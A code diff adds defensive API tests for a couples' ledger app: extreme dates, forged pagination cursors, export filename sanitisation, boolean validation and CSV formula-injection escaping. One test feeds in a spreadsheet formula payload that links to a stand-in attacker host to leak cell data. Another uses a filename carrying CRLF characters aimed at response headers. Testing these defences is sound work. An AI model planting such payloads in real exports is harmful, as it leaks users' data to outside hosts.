@@ -124,3 +124,107 @@ def test_injection_strings_pass_verbatim_through_every_other_text_field(api: Api
         named = alex.call("PATCH", "/api/v1/accounts/me", json={
             "display_name": text[:80], "current_password": "correct horse battery"})
         assert named.status_code == 200 and named.json["display_name"] == text[:80], n
+
+
+EDGE_QUERIES = [
+    "balance?as_of=0001-01-01T00:00:00Z",
+    "balance?as_of=0001-02-20T00:00:00Z&window_weeks=104",
+    "balance?as_of=0001-01-01T00:00:00%2B01:00",
+    "balance/series?from=0001-01-01&to=0001-01-08",
+    "balance/series?from=9999-12-24&to=9999-12-31",
+    "timeline?as_of=9999-12-31T23:59:00-01:00",
+    "timeline?from=0001-01-01&to=0001-01-02",
+    "events?after=1000000000000000000000000000000",
+    "events?known_at=0001-01-01T00:00:00%2B01:00",
+    "export?format=json&to=0001-01-01",
+    "export?format=pdf&to=0001-01-01",
+    "export?format=csv&from=9999-12-31",
+    "timeline?cursor=eyJhIjogWzEsIDJdLCAicyI6ICJ4In0",  # a hand-made cursor
+]
+
+
+@pytest.mark.parametrize("query", EDGE_QUERIES)
+def test_times_near_year_one_or_9999_and_huge_numbers_are_422_never_500(
+    api: Api, query: str,
+) -> None:
+    alex, _, ledger = api.couple()
+    answer = alex.get(f"/api/v1/ledgers/{ledger}/{query}")
+    body = answer.get_data()  # the whole body: a stream cut short would raise here
+    assert answer.status_code == 422, body
+    assert answer.mimetype == "application/problem+json"
+
+
+@pytest.mark.parametrize("when", ["0001-01-01T00:00:00+01:00", "9999-12-31T23:59:00-01:00"])
+def test_times_near_year_one_or_9999_in_bodies_are_422(api: Api, when: str) -> None:
+    alex, _, ledger = api.couple()
+    answer = alex.post(f"/api/v1/ledgers/{ledger}/needs", {
+        "need": "n", "intensity": 1, "support_type": "esteem", "occurred_at": when})
+    assert answer.status_code == 422
+    assert "occurred_at" in answer.json["errors"]
+
+
+def test_forged_cursors_of_another_shape_are_422(api: Api) -> None:
+    import base64
+    import json
+
+    from web.api.reads import scope_of
+
+    alex, _, ledger = api.couple()
+    for route, after in (("timeline", {"x": 1}), ("timeline", [10**30, "z"]),
+                         ("timeline", ["1", "z"]), ("events", "12"), ("events", [1]),
+                         ("events", True)):
+        with api.app.test_request_context():
+            from flask import g
+
+            g.account_id = __import__("uuid").UUID(alex.id)
+            scope = scope_of(__import__("uuid").UUID(ledger), {})
+        raw = json.dumps({"a": after, "s": scope}).encode()
+        cursor = base64.urlsafe_b64encode(raw).decode().rstrip("=")
+        answer = alex.get(f"/api/v1/ledgers/{ledger}/{route}?cursor={cursor}")
+        assert answer.status_code == 422, (route, after)
+
+
+@pytest.mark.parametrize("name", ["Łukasz", "Ψυχή μας", "家族", "Zoë & \"Kim\"\r\n"])
+def test_downloads_of_a_ledger_with_any_name_work(api: Api, name: str) -> None:
+    from urllib.parse import quote
+
+    alex, sam = api.person("Alex"), api.person("Sam")
+    opened = alex.post("/api/v1/ledgers", {"name": name})
+    assert opened.status_code == 201
+    ledger = opened.json["id"]
+    for fmt in ("json", "csv", "pdf"):
+        answer = alex.get(f"/api/v1/ledgers/{ledger}/export?format={fmt}")
+        assert answer.status_code == 200
+        disposition = answer.headers["Content-Disposition"]
+        assert disposition.isascii() and "\r" not in disposition and "\n" not in disposition
+        assert "filename*=UTF-8''" in disposition
+        answer.close()
+        real = name.strip().replace('"', "").replace("\r\n", "").replace(" ", "-")
+        if name.isalnum() or " " in name:
+            assert quote(real, safe="")[:6] in disposition
+    assert sam  # the second partner is not needed to export
+
+
+def test_csv_cells_never_start_a_formula(api: Api) -> None:
+    import csv
+    import io
+
+    alex, _, ledger = api.couple()
+    for words in ('=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+2", "-3", "@SUM(A1)",
+                  "\tTAB", "plain words"):
+        alex.post(f"/api/v1/ledgers/{ledger}/moments", {"kind": "good_news", "text": words})
+    api.sync()
+    text = alex.get(f"/api/v1/ledgers/{ledger}/export?format=csv").get_data(as_text=True)
+    cells = [row["words"] for row in csv.DictReader(io.StringIO(text))]
+    assert "plain words" in cells
+    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells)
+    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")" in cells
+
+
+@pytest.mark.parametrize("value", [1, 0, "yes", "true", "on", None])
+def test_booleans_accept_only_json_true_or_false(api: Api, value: object) -> None:
+    alex, _, ledger = api.couple()
+    answer = alex.post(f"/api/v1/ledgers/{ledger}/needs", {
+        "need": "n", "intensity": 1, "support_type": "esteem", "recurring": value})
+    assert answer.status_code == 422
+    assert "recurring" in answer.json["errors"]
